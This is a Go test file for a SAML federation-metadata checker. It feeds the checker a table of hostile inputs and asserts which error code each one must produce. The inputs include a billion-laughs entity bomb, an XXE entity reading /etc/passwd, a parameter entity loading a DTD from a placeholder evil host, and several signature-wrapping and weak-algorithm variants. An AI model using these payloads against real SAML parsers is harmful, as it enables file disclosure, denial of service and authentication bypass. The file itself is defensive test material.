package samlcheck_test

import (
	"bytes"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/pymetrics/sso-assistant/samlcheck"
	"github.com/pymetrics/sso-assistant/samlcheck/samltest"
)

// hostileCase is one input that must be refused with one specific code (or,
// when valid is set, accepted).
type hostileCase struct {
	name  string
	input []byte
	opts  samlcheck.Options
	want  samlcheck.Code
	kind  samlcheck.Kind // checked when set
	valid bool           // the signature must verify
	ok    bool           // the report must be OK (no error finding)
}

// readReal reads a real fixture.
func readReal(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(realDir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func toUTF16(s string, bigEndian bool) []byte {
	units := utf16.Encode([]rune(s))
	out := make([]byte, 0, 2+2*len(units))
	if bigEndian {
		out = append(out, 0xFE, 0xFF)
	} else {
		out = append(out, 0xFF, 0xFE)
	}
	for _, u := range units {
		if bigEndian {
			out = append(out, byte(u>>8), byte(u))
		} else {
			out = append(out, byte(u), byte(u>>8))
		}
	}
	return out
}

// hostileCases builds the table; shared with the fuzz seeds.
func hostileCases(t testing.TB) []hostileCase {
	t.Helper()
	m := samltest.New(t, samltest.Options{Now: fixedNow})
	doc := string(m.XML)
	rep := func(old, new string) []byte {
		if !strings.Contains(doc, old) {
			t.Fatalf("generated document lacks %q", old)
		}
		return []byte(strings.Replace(doc, old, new, 1))
	}
	real := string(readReal(t, "entra-app-2025-esecdj.xml")) // signer valid until 2028
	const md = `xmlns="urn:oasis:names:tc:SAML:2.0:metadata"`
	const sigMethod = `<SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>`
	const excC14N = `<Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>`
	refURI := `URI="#` + m.ID + `"`
	pemCert := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: m.CertDER})
	weak := samltest.New(t, samltest.Options{Now: fixedNow, KeyBits: 1024})

	atCap := append(append([]byte{}, m.XML...), bytes.Repeat([]byte("\n"), 4096-len(m.XML)%4096)...)
	capOpts := samlcheck.Options{Now: fixedNow, MaxSize: int64(len(atCap))}

	cases := []hostileCase{
		{name: "genuine", input: m.XML, valid: true, ok: true, kind: samlcheck.KindEntraApp},
		{name: "genuine-real-download", input: []byte(real), valid: true, ok: true, kind: samlcheck.KindEntraApp},
		{name: "empty", input: nil, want: samlcheck.CodeInputEmpty, kind: samlcheck.KindEmpty},
		{name: "blank", input: []byte(" \r\n\t\n"), want: samlcheck.CodeInputEmpty, kind: samlcheck.KindEmpty},
		{name: "bom-only", input: []byte{0xEF, 0xBB, 0xBF}, want: samlcheck.CodeInputEmpty, kind: samlcheck.KindEmpty},
		{name: "at-size-cap", input: atCap, opts: capOpts, valid: true, ok: true},
		{name: "past-size-cap", input: append(append([]byte{}, atCap...), '\n'), opts: capOpts, want: samlcheck.CodeInputTooLarge},
		{name: "past-default-cap-12MB-attribute", input: []byte(`<EntityDescriptor ` + md + ` a="` + strings.Repeat("A", 12<<20) + `"/>`), want: samlcheck.CodeInputTooLarge},
		{name: "doctype-billion-laughs", input: []byte(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><EntityDescriptor ` + md + ` entityID="&lol3;"/>`), want: samlcheck.CodeInputDoctype},
		{name: "doctype-internal-entity-used", input: []byte(strings.Replace(doc, "<EntityDescriptor", `<!DOCTYPE EntityDescriptor [<!ENTITY t "`+m.TenantID+`">]><EntityDescriptor`, 1)), want: samlcheck.CodeInputDoctype},
		{name: "doctype-external-entity", input: []byte(`<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><EntityDescriptor ` + md + ` entityID="&xxe;"/>`), want: samlcheck.CodeInputDoctype},
		{name: "doctype-parameter-entity", input: []byte(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://` + evilHost + `/x.dtd"> %p;]><EntityDescriptor ` + md + `/>`), want: samlcheck.CodeInputDoctype},
		{name: "doctype-html-like-in-metadata", input: []byte(`<?xml version="1.0"?><!DOCTYPE EntityDescriptor><EntityDescriptor ` + md + `/>`), want: samlcheck.CodeInputDoctype},
		{name: "duplicate-attribute", input: rep(`entityID=`, `entityID="x" entityID=`), want: samlcheck.CodeInputDuplicateAttribute},
		{name: "deep-nesting", input: []byte(`<EntityDescriptor ` + md + `>` + strings.Repeat("<a>", 200_000) + strings.Repeat("</a>", 200_000) + `</EntityDescriptor>`), want: samlcheck.CodeInputTooDeep},
		{name: "million-siblings", input: []byte(`<EntityDescriptor ` + md + `>` + strings.Repeat("<a/>", 1_000_000) + `</EntityDescriptor>`), want: samlcheck.CodeInputTooManyElements},
		{name: "many-namespaces-on-one-element", input: []byte(`<EntityDescriptor ` + md + manyNamespaces(140) + `/>`), want: samlcheck.CodeInputTooManyNamespaces},
		{name: "many-namespaces-in-scope", input: []byte(`<EntityDescriptor ` + md + `>` + strings.Repeat(`<a`+manyNamespaces(30)+`>`, 10) + strings.Repeat(`</a>`, 10) + `</EntityDescriptor>`), want: samlcheck.CodeInputTooManyNamespaces},
		{name: "many-attributes", input: []byte(`<EntityDescriptor ` + md + manyAttrs(300) + `/>`), want: samlcheck.CodeInputMalformed},
		{name: "invalid-utf8", input: rep(m.TenantID, m.TenantID[:4]+"\xff"+m.TenantID[5:]), want: samlcheck.CodeInputInvalidUTF8},
		{name: "nul-bytes", input: rep("<IDPSSODescriptor", "\x00<IDPSSODescriptor"), want: samlcheck.CodeInputBinary, kind: samlcheck.KindNotXML},
		{name: "utf16le-bom-real-download", input: toUTF16(real, false), valid: true, ok: true, kind: samlcheck.KindEntraApp},
		{name: "utf16be-bom-declared", input: toUTF16(strings.Replace(real, `encoding="UTF-8"`, `encoding="UTF-16"`, 1), true), valid: true, ok: true, kind: samlcheck.KindEntraApp},
		{name: "utf16-without-bom", input: toUTF16(real, false)[2:], want: samlcheck.CodeInputEncoding},
		{name: "utf16-odd-length", input: toUTF16(real, false)[:101], want: samlcheck.CodeInputEncoding},
		{name: "utf32-bom", input: append([]byte{0xFF, 0xFE, 0, 0}, '<', 0, 0, 0), want: samlcheck.CodeInputEncoding},
		{name: "latin1-declared", input: rep(`encoding="UTF-8"`, `encoding="ISO-8859-1"`), want: samlcheck.CodeInputEncoding},
		{name: "two-roots", input: []byte(doc + `<EntityDescriptor ` + md + `/>`), want: samlcheck.CodeInputMalformed, kind: samlcheck.KindDamagedXML},
		{name: "text-after-root", input: []byte(doc + "trailing words"), want: samlcheck.CodeInputMalformed},
		{name: "name-with-two-colons", input: []byte(`<EntityDescriptor ` + md + `><a:b:c xmlns:a="urn:a"/></EntityDescriptor>`), want: samlcheck.CodeInputMalformed},
		{name: "undeclared-prefix", input: []byte(`<EntityDescriptor ` + md + `><q:x/></EntityDescriptor>`), want: samlcheck.CodeInputMalformed},
		{name: "mismatched-end-tag", input: []byte(`<EntityDescriptor ` + md + `><a></b></EntityDescriptor>`), want: samlcheck.CodeInputMalformed},
		{name: "swapped-default-namespace", input: rep(md, `xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`), want: samlcheck.CodeInputNamespace},
		{name: "no-namespace", input: rep(md, ``), want: samlcheck.CodeInputNamespace},
		{name: "signature-removed", input: []byte(doc[:strings.Index(doc, "<Signature")] + doc[strings.Index(doc, "</Signature>")+len("</Signature>"):]), want: samlcheck.CodeSignatureMissing, kind: samlcheck.KindEntraApp},
		{name: "hmac-signature-method", input: rep(sigMethod, `<SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"><HMACOutputLength>0</HMACOutputLength></SignatureMethod>`), want: samlcheck.CodeSignatureAlgorithm},
		{name: "dsa-signature-method", input: rep(sigMethod, `<SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#dsa-sha1"/>`), want: samlcheck.CodeSignatureAlgorithm},
		{name: "unknown-canonicalization", input: rep(`<CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>`, `<CanonicalizationMethod Algorithm="urn:evil"/>`), want: samlcheck.CodeSignatureAlgorithm},
		{name: "md5-digest", input: rep(`<DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>`, `<DigestMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#md5"/>`), want: samlcheck.CodeSignatureAlgorithm},
		{name: "xpath-transform", input: rep(excC14N, excC14N+`<Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>not(ancestor-or-self::*)</XPath></Transform>`), want: samlcheck.CodeSignatureTransform},
		{name: "xslt-transform", input: rep(excC14N, `<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>`), want: samlcheck.CodeSignatureTransform},
		{name: "no-enveloped-transform", input: rep(`<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>`, ``), want: samlcheck.CodeSignatureTransform},
		{name: "empty-reference-uri", input: rep(refURI, `URI=""`), want: samlcheck.CodeSignatureReference},
		{name: "foreign-reference-uri", input: rep(refURI, `URI="#_somewhere-else"`), want: samlcheck.CodeSignatureReference},
		{name: "external-reference-uri", input: rep(refURI, `URI="https://`+evilHost+`/metadata.xml"`), want: samlcheck.CodeSignatureReference},
		{name: "missing-reference-uri", input: rep(refURI, ``), want: samlcheck.CodeSignatureReference},
		{name: "root-id-missing", input: rep(`ID="`+m.ID+`" `, ``), want: samlcheck.CodeSignatureReference},
		{name: "prefixed-id-next-to-id", input: rep(`ID="`+m.ID+`" `, `xmlns:x="urn:x" x:ID="_other" ID="`+m.ID+`" `), want: samlcheck.CodeSignatureReference},
		{name: "id-duplicated-inside", input: rep(`<IDPSSODescriptor `, `<IDPSSODescriptor ID="`+m.ID+`" `), want: samlcheck.CodeSignatureReference},
		{name: "prefixed-uri-next-to-uri", input: rep(refURI, `xmlns:x="urn:x" `+refURI+` x:URI="#_evil"`), want: samlcheck.CodeSignatureReference},
		{name: "prefixed-algorithm-next-to-algorithm", input: rep(sigMethod, `<SignatureMethod xmlns:x="urn:x" Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256" x:Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"/>`), want: samlcheck.CodeSignatureMalformed},
		{name: "two-references", input: rep(`</Reference>`, `</Reference><Reference URI="#x"><DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><DigestValue>AA==</DigestValue></Reference>`), want: samlcheck.CodeSignatureReference},
		{name: "garbage-signature-value", input: replaceBetween(t, doc, "<SignatureValue>", "</SignatureValue>", "!!garbage!!"), want: samlcheck.CodeSignatureMalformed},
		{name: "wrong-signature-value", input: replaceBetween(t, doc, "<SignatureValue>", "</SignatureValue>", base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{7}, 256))), want: samlcheck.CodeSignatureInvalid},
		{name: "signature-value-line-wrapped", input: []byte(wrapSignatureValue(t, doc)), valid: true, ok: true},
		{name: "object-in-signature", input: rep(`</Signature>`, `<Object/></Signature>`), want: samlcheck.CodeSignatureMalformed},
		{name: "signedinfo-missing", input: replaceBetween(t, doc, "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">", "<SignatureValue>", ""), want: samlcheck.CodeSignatureMalformed},
		{name: "garbage-keyinfo-certificate", input: replaceBetween(t, doc, "<X509Certificate>", "</X509Certificate>", "@@@"), want: samlcheck.CodeSignatureCertificate},
		{name: "rsa-1024-flagged", input: weak.XML, want: samlcheck.CodeCertWeakKey, valid: true, ok: true},
		{name: "html-page", input: []byte("<!DOCTYPE html>\n<html><head><title>Sign in to your account</title></head><body></body></html>"), want: samlcheck.CodeInputNotMetadata, kind: samlcheck.KindHTML},
		{name: "xhtml-page", input: []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`), want: samlcheck.CodeInputNotMetadata, kind: samlcheck.KindHTML},
		{name: "pem-certificate", input: pemCert, want: samlcheck.CodeInputCertificate, kind: samlcheck.KindCertificate},
		{name: "der-certificate", input: m.CertDER, want: samlcheck.CodeInputCertificate, kind: samlcheck.KindCertificate},
		{name: "bare-base64-certificate", input: []byte(base64.StdEncoding.EncodeToString(m.CertDER) + "\n"), want: samlcheck.CodeInputCertificate, kind: samlcheck.KindCertificate},
		{name: "plain-text", input: []byte("Federation Metadata XML\nhttps://login.microsoftonline.com/\n"), want: samlcheck.CodeInputNotMetadata, kind: samlcheck.KindNotXML},
		{name: "binary", input: []byte{0x50, 0x4B, 0x03, 0x04, 0, 0, 1, 2}, want: samlcheck.CodeInputBinary, kind: samlcheck.KindNotXML},
		{name: "saml-response", input: readReal(t, "response-entra-assertion-2017-azuread-valid.xml"), want: samlcheck.CodeInputNotMetadata, kind: samlcheck.KindResponse},
		{name: "other-xml", input: []byte(`<?xml version="1.0"?><configuration><appSettings/></configuration>`), want: samlcheck.CodeInputNotMetadata, kind: samlcheck.KindUnknownXML},
		{name: "sp-metadata", input: readReal(t, "synthetic-onelogin-signed-md-python3saml.xml"), want: samlcheck.CodeInputSPMetadata, kind: samlcheck.KindSP, valid: true},
	}
	// Truncation at many offsets of a real download.
	for i := 1; i < 40; i++ {
		off := len(real) * i / 40
		cases = append(cases, hostileCase{name: fmt.Sprintf("truncated-at-%d", off), input: []byte(real[:off]), want: samlcheck.CodeInputMalformed})
	}
	return cases
}

func manyNamespaces(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, ` xmlns:n%d="urn:n%d"`, i, i)
	}
	return b.String()
}

func manyAttrs(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, ` a%d="1"`, i)
	}
	return b.String()
}

// replaceBetween replaces the text between the first open and the next close.
func replaceBetween(t testing.TB, s, open, close, with string) []byte {
	t.Helper()
	i := strings.Index(s, open)
	if i < 0 {
		t.Fatalf("%q not found", open)
	}
	i += len(open)
	j := strings.Index(s[i:], close)
	if j < 0 {
		t.Fatalf("%q not found", close)
	}
	return []byte(s[:i] + with + s[i+j:])
}

// wrapSignatureValue wraps the SignatureValue at 64 columns, as some tools
// write it; whitespace there is not signed content.
func wrapSignatureValue(t testing.TB, s string) string {
	t.Helper()
	i := strings.Index(s, "<SignatureValue>") + len("<SignatureValue>")
	j := strings.Index(s, "</SignatureValue>")
	v := s[i:j]
	var b strings.Builder
	for k := 0; k < len(v); k += 64 {
		b.WriteString("\n")
		b.WriteString(v[k:min(k+64, len(v))])
	}
	return s[:i] + b.String() + "\n" + s[j:]
}

// TestHostileInputs asserts the exact code for every hostile input.
func TestHostileInputs(t *testing.T) {
	for _, tc := range hostileCases(t) {
		t.Run(tc.name, func(t *testing.T) {
			opts := tc.opts
			if opts.Now.IsZero() {
				opts.Now = fixedNow
			}
			start := time.Now()
			r := samlcheck.Check(tc.input, opts)
			if d := time.Since(start); d > time.Second {
				t.Logf("took %v", d) // a signal, not an assertion: timing depends on the machine
			}
			checkInvariants(t, r)
			if tc.valid != r.Signature.Valid {
				t.Errorf("valid = %v, want %v (reason %q, codes %v)", r.Signature.Valid, tc.valid, r.Signature.Reason, codes(r))
			}
			if r.OK != tc.ok {
				t.Errorf("OK = %v, want %v: %v", r.OK, tc.ok, codes(r))
			}
			if tc.want != "" && !r.Has(tc.want) {
				t.Errorf("want %s, got %v", tc.want, codes(r))
			}
			if tc.want != "" && !tc.ok {
				var found bool
				for _, f := range r.Errors() {
					found = found || f.Code == tc.want
				}
				if !found {
					t.Errorf("%s is not an error: %v", tc.want, r.Findings)
				}
			}
			if tc.kind != "" && r.Kind != tc.kind {
				t.Errorf("kind = %s, want %s", r.Kind, tc.kind)
			}
		})
	}
}
